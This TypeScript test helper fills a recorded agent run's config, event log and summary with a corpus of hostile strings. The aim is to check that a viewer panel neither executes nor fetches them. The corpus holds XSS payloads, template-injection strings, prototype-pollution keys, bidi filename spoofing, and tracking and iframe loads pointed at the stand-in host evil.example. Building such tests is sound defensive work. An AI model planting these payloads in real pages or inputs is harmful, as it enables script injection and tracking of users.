import { randomUUID } from 'node:crypto';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { startRun } from '../../src/engine/start.ts';
import { RunConfig } from '../../src/run/config.ts';
import { type EventDraft, RunEvent } from '../../src/run/events.ts';
import { readyTasks } from '../../src/run/queue.ts';
import { reviewDigest } from '../../src/run/review.ts';
import { fold } from '../../src/run/fold.ts';
import type { RunState } from '../../src/run/state.ts';
import { nodeDisk } from '../../src/runlog/disk.ts';
import { runFolder } from '../../src/runlog/folder.ts';
import { readLog } from '../../src/runlog/reader.ts';
import { Summary } from '../../src/runlog/summary.ts';
import { brain } from './brain.ts';
import { startModelServer } from './model-server.ts';
import { testHost, testSettings, testStart } from './run-host.ts';
import { writeRun } from './written-run.ts';

/** What must never be requested, and what must never be set. */
export const EVIL = 'evil.example';
export const CANARY = 'owned';

const JS = `globalThis.${CANARY}=1`;
const COMMAND = 'command:workbench.action.files.newUntitledFile';

/** Texts that do something wherever they are taken for more than text. */
const CORPUS: readonly string[] = [
  `<script>${JS}</script>`,
  `<img src=x onerror="${JS}">`,
  `<svg onload=${JS}><a xlink:href="javascript:${JS}"><text>x</text></a></svg>`,
  `"><iframe src="https://${EVIL}/frame" onload="${JS}"></iframe>`,
  `[click](javascript:${JS}) <a href="javascript:${JS}">x</a>`,
  `[data](data:text/html,<script>top.${CANARY}=1</script>) <object data="data:text/html,<script>${JS}</script>"></object>`,
  `[run](${COMMAND}) <a href="${COMMAND}">x</a> <${COMMAND}>`,
  `![pixel](https://${EVIL}/pixel.png) <img src="https://${EVIL}/image.png">`,
  `<style>@import url(https://${EVIL}/s.css);</style><p style="background:url(https://${EVIL}/b.png)">x</p>`,
  `</body></html><meta http-equiv="refresh" content="0;url=https://${EVIL}/"><base href="https://${EVIL}/">`,
  `$\{${JS}} {{constructor.constructor('${JS}')()}} <%= ${JS} %>`,
  '__proto__',
  'constructor',
  '\u202e\u2066gnp.exe\u2069\u200f \u00ad\ufeff<b>x</b>',
  `one\u2028two\u2029three\r\n\n# heading\n\n| a |\n|---|\n| ![t](https://${EVIL}/t.png) |\n\u0000`,
  `\`\`\`\n</code></pre><script>${JS}</script>\n$(alert) &#x3c;script&#x3e;${JS} \`${'`'.repeat(9)}`,
  `<form action="https://${EVIL}/f"><button autofocus onfocus="${JS}">x</button></form><math><mtext><style><img src onerror=${JS}></style></mtext></math>`,
  `${'very long '.repeat(2000)}<img src=x onerror="${JS}">`,
];

export interface HostileRun {
  readonly directory: string;
  readonly state: RunState;
  /** The event types that are in its log. */
  readonly types: ReadonlySet<string>;
}

export interface HostileOptions {
  /** Names of things too: then no task can be unfolded, since the panel asks for no such name. */
  readonly names: boolean;
  /** The run has ended; else it waits for a review, and nobody is at it. */
  readonly ended: boolean;
}

/**
 * Writes the folder of a run whose every text is from the corpus. The log is that of a run that really took place, and
 * events that it had no reason for; in it, in the configuration and in the summary, each text is replaced that the schema
 * allows to be another, whatever field it is in.
 */
export async function writeHostileRun(runsDirectory: string, options: HostileOptions): Promise<HostileRun> {
  const real = await realRun();
  const runId = randomUUID();
  const replace = replacer(options.names, runId);
  const config = RunConfig.parse(
    replace({ ...real.config, run_id: runId }, (value) => RunConfig.safeParse(value).success),
  );
  const drafts = withTheRest(real, options.ended);
  const events = drafts.map((draft, index) => {
    const placed = { ...draft, v: 1, seq: index + 1, run_id: runId };
    return RunEvent.parse(replace(placed, (value) => RunEvent.safeParse(value).success));
  });
  const { folder, state } = writeRun(runsDirectory, config, events);
  if (options.ended) {
    const summary = JSON.parse(readFileSync(folder.summaryJson, 'utf8')) as object;
    const hostile = replace(summary, (value) => Summary.safeParse(value).success);
    writeFileSync(folder.summaryJson, JSON.stringify({ ...hostile, run_id: runId }));
  }
  return { directory: folder.path, state, types: new Set(events.map(({ type }) => type)) };
}

/** Replaces the texts of a value, one after the other, where the result is valid. */
function replacer(names: boolean, runId: string): <T extends object>(value: T, valid: (value: T) => boolean) => T {
  let next = 0;
  const known = new Map<string, string>();
  const other = (field: string, text: string): string => {
    if (!/(_id|_ids|^order|^before|^embeds|^duplicate_of|^repairs)$/.test(field)) {
      next += 1;
      return CORPUS[next % CORPUS.length] ?? '';
    }
    if (!names) return text;
    // What is named twice is the same thing.
    const name = known.get(text) ?? `${text} ${CORPUS[((next += 1)) % CORPUS.length]}`.slice(0, 400);
    known.set(text, name);
    return name;
  };
  return (value, valid) => {
    const copy = structuredClone(value);
    const walk = (node: object, field: string): void => {
      for (const [key, inner] of Object.entries(node) as [keyof typeof node, unknown][]) {
        const name = Array.isArray(node) ? field : String(key);
        if (typeof inner === 'object' && inner !== null) walk(inner, name);
        if (typeof inner !== 'string' || inner === runId || name === 'ts') continue;
        Object.assign(node, { [key]: other(name, inner) });
        if (!valid(copy)) Object.assign(node, { [key]: inner });
      }
    };
    walk(copy, '');
    return copy;
  };
}

interface RealRun {
  readonly config: RunConfig;
  readonly drafts: readonly EventDraft[];
}

/** A run of some iterations, steered on the way, with a server that fails now and then. */
async function realRun(): Promise<RealRun> {
  const root = mkdtempSync(path.join(tmpdir(), 'hostile-'));
  const server = await startModelServer({
    reply: brain(),
    dimensions: 16,
    fault: (_, index) => (index === 4 ? { kind: 'status', status: 500 } : null),
  });
  const host = testHost(server.url);
  try {
    const settings = { max_iterations: 12, acceptance_criteria: ['One', 'Two'] };
    const session = await startRun(testSettings(server.baseUrl, settings), testStart(root), host);
    let steered = false;
    session.subscribe((event) => {
      if (event.type !== 'iteration.completed' || event.iteration < 5 || steered) return;
      steered = true;
      const { steering } = session;
      const first = steering.addTask('Mine');
      const second = steering.addTask('Mine too');
      steering.moveTask(second, first);
      steering.editTask(first, 'Mine, changed');
      steering.blockTask(first, 'Not yet');
      steering.unblockTask(first);
      steering.blockTask(first, '');
      steering.removeTask(second);
      steering.guide('Be brief.');
      steering.raiseLimit('max_iterations', 14);
      steering.raiseLimit('max_requests', 10_000);
      steering.pause();
      steering.resume();
    });
    const { runDirectory } = await session.done;
    const { events } = await readLog(nodeDisk, runFolder(runDirectory));
    return { config: session.state.config, drafts: events.filter((event) => event.type !== 'unknown') };
  } finally {
    host.egress.close();
    await server.close();
    rmSync(root, { recursive: true, force: true });
  }
}

/** The log with an event of each kind that had no reason to be in it. */
function withTheRest({ config, drafts }: RealRun, ended: boolean): EventDraft[] {
  const body = drafts.filter(({ type }) => type !== 'run.ended');
  const end = drafts.filter(({ type }) => type === 'run.ended');
  const envelope = (at: number) => ({
    v: 1,
    seq: at + 1,
    epoch: 1,
    ts: '2025-01-02T03:04:05.000Z',
    mono_ms: 0,
    run_id: '',
  });
  const stateAfter = (all: readonly EventDraft[]) =>
    fold(
      config,
      all.map((draft, at) => ({ ...envelope(at), ...draft, seq: at + 1, more: undefined }) as RunEvent),
    );
  const state = stateAfter(body);
  const call = [...state.calls.values()].find(({ status }) => status === 'settled');
  const callId = call?.id ?? '';
  const at = state.iteration;
  const error = { class: 'test', message: 'It failed.' };
  const file = { name: 'a.md', sha256: '0', bytes: 1, task_id: 't1' };
  const fields = { agent: 'execution', task_id: 't1', iteration: at + 1, model: 'm', attempt: 1 } as const;
  const outcome = {
    ...{ input_tokens: null, cached_tokens: null, output_tokens: null, latency_ms: null },
    ...{ cost_usd: 0.001, system_fingerprint: 'x', error },
  };
  const reserved = (call_id: string): EventDraft => ({
    type: 'call.reserved',
    ...{ call_id, step: call_id, ...fields, origin: 'https://x.example', request_sha256: '0', inputs: {} },
    ...{ bound_input_tokens: 1, max_output_tokens: 1, reserved_usd: 0.001 },
  });
  const task = (task_id: string): EventDraft => ({
    type: 'task.created',
    ...{ task_id, text: 'More', by: 'loop', parent_task_id: 't1', label: '9', before: null, iteration: at },
  });
  const rest: EventDraft[] = [
    task('x1'),
    task('x2'),
    task('x3'),
    { type: 'tasks.prioritized', order: ['x3', 'x1'], by: 'loop', call_id: callId },
    { type: 'task.started', task_id: 'x3', iteration: at + 1 },
    reserved('h1'),
    { type: 'call.held', call_id: 'h1', ...fields, ...outcome },
    reserved('r1'),
    { type: 'call.released', call_id: 'r1', ...fields, ...outcome, cost_usd: 0 },
    { type: 'model.adapted', feature: 'seed', why: 'refused' },
    { type: 'task.failed', task_id: 'x3', iteration: at + 1, error },
    ...(['same_text', 'similar', 'too_many', 'queue_full'] as const).map(
      (why): EventDraft => ({
        type: 'task.suppressed',
        ...{ text: 'Again', duplicate_of: 't1', similarity: 0.9, why, parent_task_id: 't1', iteration: at + 1 },
      }),
    ),
    { type: 'reply.rejected', call_id: callId, agent: 'planning', why: 'no list', strike: 1 },
    { type: 'iteration.completed', iteration: at + 1, task_id: 'x3' },
    { type: 'objective.judged', call_id: callId, met: [true, false], complete: false },
    { type: 'checkpoint.saved', iteration: at + 1, file: 'checkpoints/000001.json' },
    { type: 'limit.reached', limit: 'max_iterations', value: 1, spent: 1 },
    { type: 'traces.started', origin: 'https://collector.example' },
    { type: 'notice.queued', notice_id: 'n1', kind: 'ended', text: 'It ended.' },
    { type: 'notice.failed', notice_id: 'n1', channel: 'slack', error, final: false },
    { type: 'notice.sent', notice_id: 'n1', channel: 'slack', origin: 'https://x.example' },
    { type: 'file.intended', ...file },
    { type: 'file.written', ...file },
    { type: 'file.refused', name: 'b.md', error, task_id: 't1' },
  ];
  const ready = readyTasks(stateAfter([...body, ...rest])).slice(0, 3);
  const listed: EventDraft = {
    type: 'tasks.replaced',
    tasks: [...ready, 'x9'].map((task_id) => ({ task_id, label: '1', text: 'Listed' })),
    call_id: callId,
  };
  const all = [...body, ...rest, listed];
  const digest = reviewDigest(stateAfter(all));
  const review = (review_id: string): EventDraft => ({
    ...{ type: 'review.requested', review_id, iteration: at + 1, digest, why: 'every 5' },
  });
  const decided: EventDraft = {
    ...{ type: 'review.decided', review_id: 'v1', digest, decision: 'approve', by: 'user', via: 'panel' },
  };
  const last = { type: 'run.ended', stop_reason: 'error', error, detail: 'It broke.' } as const;
  const over = end.length > 0 ? [{ ...end[0], ...last } as EventDraft] : [last];
  return [...all, review('v1'), decided, ...(ended ? over : [review('v2')])].map((draft, index) => ({
    ...envelope(index),
    ...draft,
  }));
}
